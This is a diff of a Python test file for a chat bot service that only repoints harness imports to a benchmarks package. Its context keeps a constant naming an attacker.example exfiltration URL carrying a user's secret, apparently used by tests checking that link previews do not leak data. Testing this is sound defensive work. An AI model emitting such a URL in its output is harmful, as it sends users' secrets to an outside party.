@@ -14,7 +14,7 @@ from markdown_it import MarkdownIt
 from sandbox import Sandbox
 from bot.service import Service
 from bot.settings import load_settings
-from tests.fixtures.server.harness import KEY, Served
+from benchmarks.harness.http_server import KEY, Served
 
 LEAK = "https://attacker.example/exfil?d=the-users-secret"
 
@@ -190,7 +190,7 @@ async def test_mcp_answer_keeps_only_web_links(sandbox, tmp_path):
 
 
 async def test_slack_thread_shows_no_preview_of_the_controllers_links(slack, tmp_path):
-    from slack_harness import start_harness
+    from benchmarks.harness.slack import start_harness
 
     async with Sandbox() as sb:
         service = await Service.create(load_settings(env={}, overrides=sb.overrides(tmp_path / "data")))
